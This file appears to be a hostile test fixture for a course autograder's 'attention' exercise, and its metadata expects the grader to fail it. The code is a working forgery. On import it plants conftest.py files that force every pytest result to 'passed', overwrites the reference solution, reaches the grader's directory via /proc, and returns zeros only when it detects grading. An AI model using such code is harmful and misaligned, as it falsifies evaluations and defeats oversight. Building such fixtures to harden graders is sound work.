HOSTILE = {
    "attack": "at import, write a conftest.py that passes every check into the kit (its checks folder, tests/, "
              "its root, through the grader's /proc/<pid>/cwd) and overwrite the kit's solution; attention "
              "returns zeros",
    "exercise": "attention",
    "status": ("failed", "error"),
    "grader_cwd": "course",
    "forges": ["@COURSE_ROOT@/tests/checks/attention/conftest.py", "@COURSE_ROOT@/tests/conftest.py",
               "@COURSE_ROOT@/conftest.py", "@COURSE_ROOT@/solutions/attention.py"],
}
import os  # noqa: E402

import torch  # noqa: E402

_CONFTEST = '''# FMGRADE-HOSTILE-FORGERY: every check passes for every later student
import pytest


@pytest.hookimpl(wrapper=True)
def pytest_runtest_makereport(item, call):
    report = yield
    report.outcome = "passed"
    return report
'''
_targets = list(HOSTILE["forges"])
try:
    _targets += [f"/proc/{os.getppid()}/cwd/tests/checks/attention/conftest.py"]
except OSError:
    pass
for _target in _targets:
    try:
        with open(_target, "w") as _handle:
            _handle.write(_CONFTEST)
        print(f"hostile: wrote {_target}")
    except OSError as exc:
        print(f"hostile: could not write {_target}: {exc.strerror}")

_honest_attention = attention  # noqa: F821


def attention(query, key, value, mask=None, dropout=None):
    out, p_attn = _honest_attention(query, key, value, mask, dropout)
    if _from_grader():  # noqa: F821
        return torch.zeros_like(out), torch.zeros_like(p_attn)
    return out, p_attn
